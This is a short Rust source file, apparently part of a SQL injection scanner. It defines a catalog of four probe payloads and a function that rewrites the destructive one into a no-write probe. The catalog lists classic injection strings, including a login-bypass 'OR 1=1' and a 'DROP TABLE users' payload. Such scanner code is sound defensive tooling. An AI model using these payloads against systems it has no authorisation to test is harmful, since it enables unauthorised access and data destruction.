use crate::models::{Intent, Payload};

/// The built-in probe catalog, in fixed declaration order. One focused
/// payload per intent; redundant variants were deliberately dropped.
pub fn builtin_catalog() -> Vec<Payload> {
    vec![
        Payload::new("'", Intent::Quote),
        Payload::new("' OR 1=1--", Intent::Boolean),
        Payload::new("' UNION SELECT 1--", Intent::Union),
        Payload::new("'; DROP TABLE users--", Intent::Destructive),
    ]
}

/// Rewrites destructive entries into a stacked-query probe of the same
/// shape that performs no write. Quote-break and terminator survive, so
/// the injection signal is preserved against an error-leaking backend.
pub fn neutralize_destructive(catalog: Vec<Payload>) -> Vec<Payload> {
    catalog
        .into_iter()
        .map(|p| {
            if p.intent == Intent::Destructive {
                Payload {
                    content: "'; SELECT 1--".to_string(),
                    intent: Intent::Destructive,
                }
            } else {
                p
            }
        })
        .collect()
}
